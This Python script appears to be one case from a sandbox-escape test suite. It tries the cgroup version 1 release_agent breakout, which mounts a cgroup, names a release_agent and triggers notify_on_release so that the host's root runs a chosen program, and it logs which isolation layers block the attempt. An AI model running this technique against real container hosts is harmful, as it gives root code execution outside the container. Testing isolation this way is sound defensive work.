# id: A6
# attack: makes a cgroup of its own, and where the hierarchy is version 1 names a release_agent, which the host's root runs
# walls: mount, user, capability
# effect: a cgroup of the program's on the host; on version 1 a file that the host's root wrote for it
# verdict: AC
import ctypes
import os
import subprocess
import sys

from facts import attempt, fact

token, agent = sys.argv[1], sys.argv[2]
root = "/sys/fs/cgroup"
fact(attempt="look", found=os.path.isdir(root) and bool(os.listdir(root)))


def write(path, text):
    with open(path, "w") as file:
        return file.write(text)


def mount_cgroup():
    """Onto a folder of its own: where it succeeds, the box's mounts die with the box."""
    os.mkdir("hierarchy")
    if ctypes.CDLL(None, use_errno=True).mount(b"cgroup", b"hierarchy", b"cgroup2", 0, None):
        raise OSError(ctypes.get_errno(), "mount")


attempt("mount", mount_cgroup)
freezer = f"{root}/freezer" if os.path.isdir(f"{root}/freezer") else root
attempt("mkdir", lambda: os.mkdir(f"{freezer}/{token}"))
attempt("release_agent", lambda: write(f"{freezer}/release_agent", agent))
attempt("notify", lambda: write(f"{freezer}/{token}/notify_on_release", "1"))


def enter_and_leave():
    """The agent is called when the last task of the cgroup has gone."""
    child = subprocess.Popen(["/bin/sh", "-c", f"echo $$ > {freezer}/{token}/cgroup.procs; exit"], stderr=subprocess.DEVNULL)
    return child.wait()


attempt("enter", enter_and_leave)
